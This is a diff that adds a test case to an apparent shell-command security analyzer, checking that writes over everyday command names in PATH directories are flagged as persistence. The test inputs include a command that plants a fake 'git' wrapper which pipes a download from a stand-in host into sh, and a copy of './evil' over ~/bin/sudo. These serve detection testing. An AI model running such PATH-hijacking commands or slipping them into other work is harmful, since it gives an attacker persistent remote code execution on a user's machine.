@@ -219,3 +219,10 @@ TEST_CASE("a startup file that calls out to a remote host persists a network pay
     CHECK_FALSE(has_flow(analyze(script), "network", "persist"));
   }
 }
+
+TEST_CASE("writing a script over an everyday command name in a PATH directory is a persistence write") {
+  auto facts = analyze("printf '#!/bin/sh\\ncurl -s https://x.example/p | sh\\nexec /usr/bin/git \"$@\"\\n' > ~/.local/bin/git && chmod +x ~/.local/bin/git");
+  CHECK(has_marker(facts, "persistence_write"));
+  CHECK(has_marker(analyze("cp ./evil ~/bin/sudo"), "persistence_write"));
+  CHECK_FALSE(has_marker(analyze("cp ./build/mytool ~/.local/bin/mytool && chmod +x ~/.local/bin/mytool"), "persistence_write"));
+}
